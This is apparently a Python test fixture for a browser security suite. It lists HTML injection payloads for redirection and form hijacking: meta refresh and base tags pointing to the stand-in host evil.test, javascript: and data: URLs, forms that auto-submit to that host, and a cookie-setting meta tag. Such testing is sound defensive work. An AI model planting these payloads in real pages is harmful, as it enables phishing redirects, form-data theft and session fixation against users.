"""Ways to lead somebody away: refreshes, bases, forms."""

from dataclasses import replace

from tests.browser.hostile.payloads.payload import Family, family, whole

_LEAVING: Family = family(
    {
        "refresh": "<meta http-equiv=refresh content='0;url=//evil.test/'>",
        "refresh with javascript": "<meta http-equiv=refresh content='0;javascript:RUN'>",
        "refresh with data": (
            "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>"
        ),
        "refresh in odd spelling": '<META/HTTP-EQUIV="  ReFresh" content="0,\' //evil.test/\'">',
        "refresh in references": "<meta http-equiv='&#114;efresh' content='0; URL=//evil.test/'>",
        "refresh in svg": "<svg><meta http-equiv=refresh content='0;//evil.test/'></svg>",
        "refresh in noscript": (
            "<noscript><meta http-equiv=refresh content='0;//evil.test/'></noscript>"
        ),
        "cookie": "<meta http-equiv=set-cookie content='sessionid=stolen'>",
        "policy of its own": (
            "<meta http-equiv=content-security-policy content=\"script-src 'none'\">"
        ),
        "delegated client hints": "<meta http-equiv=delegate-ch content='x //evil.test'>",
        "base": "<base href=//evil.test/><img src=x.png><a href=y>y</a>",
        "base target": "<base target=_top><a href=#y>y</a>",
        "form": "<form action=//evil.test/ method=post><input name=a><button>go</button></form>",
        "form to the whole window": "<form action=//evil.test/ target=_top><input type=submit>",
        "form with javascript": "<form action=javascript:RUN><input type=submit value=go></form>",
        "form of a button": "<form><button formaction=javascript:RUN>go</button></form>",
        "form of a picture": (
            "<form action=//evil.test/><input type=image src=//evil.test/x></form>"
        ),
        "form from outside": (
            "<form id=f action=//evil.test/></form><button form=f formmethod=post>go</button>"
            "<input form=f type=submit formaction=//evil.test/>"
        ),
        "form that closes a dialog": (
            "<dialog open><form method=dialog><button autofocus>x</button></form></dialog>"
        ),
        "form with a field to send at once": (
            "<form action=//evil.test/><input autofocus onfocus=this.form.submit()></form>"
        ),
        "form to the app": (
            "<form action=/queue/next/ method=post target=_top><input name=rows></form>"
        ),
        "form in a form": "<form id=a><form action=//evil.test/><input type=submit></form></form>",
        "search of old": "<isindex action=//evil.test/ prompt=x>",
        "key generator": "<form><keygen name=k autofocus onfocus=RUN></form>",
        "command button": (
            "<button command=show-modal commandfor=d>x</button><dialog id=d>x</dialog>"
        ),
    }
) | whole(
    {
        "refresh in the head": (
            "<head><meta http-equiv=refresh content='0;url=//evil.test/'></head><p>KNOWN</p>"
        ),
        "base in the head": (
            "<head><base href=//evil.test/ target=_top></head><p>KNOWN</p><img src=x>"
        ),
    }
)

LEAVING: Family = {
    name: replace(payload, needs_rendering=name.startswith("refresh"))
    for name, payload in _LEAVING.items()
}
